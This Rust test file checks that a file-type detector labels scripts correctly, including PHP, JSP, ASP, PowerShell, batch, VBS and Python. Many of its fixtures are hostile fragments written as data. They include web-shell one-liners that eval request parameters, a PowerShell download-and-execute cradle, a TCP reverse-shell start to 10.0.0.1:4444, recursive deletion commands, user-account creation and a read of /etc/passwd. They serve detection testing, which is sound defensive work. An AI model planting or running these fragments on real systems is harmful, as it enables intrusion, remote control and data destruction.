//! Scripts, with and without a telling first line.

use super::{check, utf16};
use crate::file_type::detect;

#[test]
fn pages_a_server_executes() {
    check(&[
        (b"<?php @eval($_GET[cmd]); ?>\n\n<?php @eval($_POST[cmd]); ?>\n", "PHP"),
        (b"<?php", "PHP"),
        (b"<?PHP system($_GET['c']);", "PHP"),
        (b"<?=`$_GET[0]`?>", "PHP"),
        (b"<? eval($_POST['x']); ?>", "PHP"),
        (b"\n\n  <?php echo 1;", "PHP"),
        (b"<html><body>\n<?php passthru($_REQUEST['c']); ?></body></html>", "PHP"),
        (b"#!/usr/bin/php -q\n<?php echo 1;", "PHP"),
        (b"GIF89a;\n<?php system($_GET['c']); ?>", "PHP"),
        (b"header text\n<?php eval($x); ?>", "PHP"),
        (b"<?php $a='\x00\x01\x02\xff\xfe'; eval($a);", "PHP"),
        // The shape the original service calls JSP.
        (b"<%eval request(", "JSP"),
        (b"<%eval request(\"cmd\")%>", "JSP"),
        (b"<%@ page import=\"java.io.*\" %>\n<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", "JSP"),
        (b"<%@page language=\"java\" contentType=\"text/html\"%>", "JSP"),
        (b"<%! String run(String c) { return c; } %>", "JSP"),
        (b"<jsp:useBean id=\"x\" class=\"y\"/>", "JSP"),
        (b"<% out.println(request.getParameter(\"x\")); %>", "JSP"),
        (b"<%@ language=vbscript %>\n<% Response.Write \"x\" %>", "ASP"),
        (b"<%@LANGUAGE=\"VBSCRIPT\" CODEPAGE=\"65001\"%>", "ASP"),
        (b"<%\nSet o = Server.CreateObject(\"WScript.Shell\")\nResponse.Write o.Exec(Request.Form(\"c\"))\n%>", "ASP"),
        (b"<%execute request(\"a\")%>", "ASP"),
        (b"<%@ Page Language=\"C#\" %>\n<script runat=\"server\">void Page_Load() {}</script>", "ASP"),
        (b"<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System;", "ASP"),
        (b"<%@ Import Namespace=\"System.IO\" %>", "ASP"),
        (b"<html><script language=\"vb\" runat=\"server\">Sub x()</script></html>", "ASP"),
    ]);
}

#[test]
fn interpreters_of_the_first_line() {
    check(&[
        (b"#!/usr/bin/env python3\nx", "Python"),
        (b"#!/usr/bin/python2.7 -u\nx", "Python"),
        (b"#!/usr/bin/env -S python3 -u\nx", "Python"),
        (b"#! /bin/sh\nx", "SHELL"),
        (b"#!/bin/bash", "SHELL"),
        (b"#!/usr/bin/env bash\nx", "SHELL"),
        (b"#!/usr/bin/zsh\n", "SHELL"),
        (b"#!/usr/bin/perl -w\n", "PERL"),
        (b"#!/usr/bin/env ruby\n", "RUBY"),
        (b"#!/usr/bin/lua5.4\n", "LUA"),
        (b"#!/usr/bin/env node\n", "JS"),
        (b"#!/usr/bin/env pwsh\n", "PowerShell"),
        (b"#!/usr/bin/tclsh8.6\n", "TCL"),
        (b"#!/usr/bin/awk -f\n", "AWK"),
        (b"#!/usr/bin/osascript\n", "APPLESCRIPT"),
        (b"#!/opt/x/strange-shell --x\n", "SCRIPT"),
        // A self-extracting script carries its archive.
        (b"#!/bin/sh\nexit\n\x1f\x8b\x08\0\0\0\x01\x02\x03", "SHELL"),
    ]);
}

#[test]
fn windows_scripts() {
    check(&[
        (b"@echo off\r\ncd /d %~dp0\r\n", "BATCH"),
        (b"@ECHO OFF\r\nnet user x y /add\r\n", "BATCH"),
        (b"setlocal enabledelayedexpansion\r\nfor %%i in (*.exe) do del %%i\r\n", "BATCH"),
        (b"REM x\r\nif exist c:\\x goto ende\r\n:ende\r\n", "BATCH"),
        (b"set P=c:\\temp\r\nif not exist %P% mkdir %P%\r\n", "BATCH"),
        (b"Dim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc\"\r\n", "VBS"),
        (b"CreateObject(\"WScript.Shell\").Run \"cmd /c calc\"", "VBS"),
        (b"On Error Resume Next\r\nWScript.Echo \"x\"\r\n", "VBS"),
        (b"' A comment about the script that is long enough\r\nOption Explicit\r\nDim a, b\r\nIf a = 1 Then\r\nEnd If\r\n", "VBS"),
        (b"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nEnd Sub\r\n", "VBA"),
        (b"Private Declare Function X Lib \"kernel32\" ()\r\nSub Document_Open()\r\nDim x As String\r\n", "VBA"),
        (b"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')", "PowerShell"),
        (b"$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);$s = $c.GetStream()", "PowerShell"),
        (b"function Get-Thing {\n  param([string]$Name)\n  Write-Host $Name\n}\n", "PowerShell"),
        (b"$x = [System.Convert]::FromBase64String('aGk=')\n$y = $x | % { $_ -bxor 1 }\n", "PowerShell"),
        (b"powershell.exe -nop -w hidden -enc SQBFAFgA", "PowerShell"),
        (b"get-childitem c:\\ | foreach-object { remove-item $_ }\n", "PowerShell"),
        (b"#@~^EgAAAA==\\ko$K6,J_VsGJ@#@&", "ENCODED SCRIPT"),
        (b"<html><head><hta:application id=x></head><script>new ActiveXObject('x')</script></html>", "HTA"),
        (b"<?xml version=\"1.0\"?>\n<job><script language=\"JScript\">x</script></job>", "WSF"),
        (b"<?XML version=\"1.0\"?>\n<scriptlet><registration progid=\"x\"></registration></scriptlet>", "SCT"),
        (b"#NoTrayIcon\r\nRun(\"calc.exe\")", "AUTOIT"),
        (b"#include <File.au3>\r\nFunc X($a)\r\n  Local $b = 1\r\nEndFunc\r\n", "AUTOIT"),
    ]);
}

#[test]
fn scripts_without_a_first_line() {
    check(&[
        (b"import x\nt = \"\"\"\n<html>\nIt is to be the text of a page.\n</html>\n\"\"\"\ndef f(a):\n    return t\n", "Python"),
        (b"import os\nimport sys\n\nprint(sys.argv)\n", "Python"),
        (b"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)", "Python"),
        (b"from base64 import b64decode as d\nexec(d('x'))\n", "Python"),
        (b"# -*- coding: utf-8 -*-\ndef main():\n    return 1\n\nif __name__ == '__main__':\n    main()\n", "Python"),
        (b"var sh = new ActiveXObject(\"WScript.Shell\");\nsh.Run(\"calc\");\n", "JS"),
        (b"eval(String.fromCharCode(97,108));", "JS"),
        (b"function a(b, c) {\n  return b + c;\n}\n", "JS"),
        (b"const fs = require('fs');\nmodule.exports = fs;\n", "JS"),
        (b"!function(){var e=document.createElement('script');window.x=e}()", "JS"),
        (b"(function($){ $(document).ready(function(){ var x = 1; document.write(x); }); })(jQuery);", "JS"),
        (b"if [ -f /etc/passwd ]; then\n  cat /etc/passwd\nfi\n", "SHELL"),
        (b"export PATH=/tmp:$PATH\nX=$(id)\necho \"$X\"\n", "SHELL"),
        (b"for i in 1 2 3; do\n  echo $i\ndone\n", "SHELL"),
        (b"use strict;\nuse Socket;\nmy $x = shift;\n", "PERL"),
        (b"package Foo;\nsub new {\n  my ($c) = @_;\n}\n", "PERL"),
        (b"require 'socket'\nclass Foo < Bar\n  attr_accessor :x\n  def y\n  end\nend\n", "RUBY"),
        (b"local x = 1\nlocal function f() return x end\nfor k, v in pairs(t) do end\n", "LUA"),
        (b"#include <stdio.h>\nint main(void) {\n  return 0;\n}\n", "C"),
        (b"package com.example;\n\nimport java.util.List;\npublic class X {\n}\n", "JAVA"),
        (b"using System;\nusing System.IO;\nnamespace X {\n class Y {} }\n", "C#"),
        (b"package main\n\nimport \"fmt\"\n\nfunc main() {\n fmt.Println(1)\n}\n", "GO"),
        (b"use std::io;\n\nfn main() {\n}\n", "RUST"),
        (b"CREATE TABLE users (\n id int\n);\nINSERT INTO users VALUES (1);\n", "SQL"),
        (b"body {\n  color: red;\n  margin: 0;\n}\n.x {\n  width: 1px;\n}\n", "CSS"),
        (b"import \"pe\"\nrule X : tag {\n strings:\n  $a = \"x\"\n condition:\n  $a\n}\n", "YARA"),
    ]);
}

#[test]
fn a_long_licence_does_not_hide_the_code() {
    let licence = " * This program is free software: you can redistribute it and modify it to the terms of the licence.\n";
    let script = format!(
        "/*\n{}*/\nvar a = document.createElement('x');\nvar b = 1;\n",
        licence.repeat(40)
    );
    assert_eq!(detect(script.as_bytes()).name(), "JS");
}

#[test]
fn other_encodings_are_read_as_well() {
    let cases = [
        ("<?php eval($_POST['x']); ?>", "PHP"),
        ("@echo off\r\nset X=1\r\n", "BATCH"),
        (
            "$x = New-Object Net.WebClient\r\nWrite-Host $x\r\n",
            "PowerShell",
        ),
        (
            "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\X]\r\n",
            "REG",
        ),
        ("On Error Resume Next\r\nDim a\r\n", "VBS"),
        ("just some words of plain text", "TEXT"),
    ];
    for (text, expected) in cases {
        let marked = utf16(text);
        assert_eq!(
            detect(&marked).name(),
            expected,
            "UTF-16 with a mark: {text}"
        );
        assert_eq!(
            detect(&marked[2..]).name(),
            expected,
            "UTF-16 without a mark: {text}"
        );
        let swapped: Vec<u8> = marked
            .chunks(2)
            .flat_map(|pair| [pair[1], pair[0]])
            .collect();
        assert_eq!(
            detect(&swapped).name(),
            expected,
            "big-endian UTF-16: {text}"
        );
        let utf8 = [b"\xef\xbb\xbf", text.as_bytes()].concat();
        assert_eq!(detect(&utf8).name(), expected, "UTF-8 with a mark: {text}");
        let padded = [text.as_bytes(), &[0; 300]].concat();
        assert_eq!(
            detect(&padded).name(),
            expected,
            "padded with zeros: {text}"
        );
    }
}
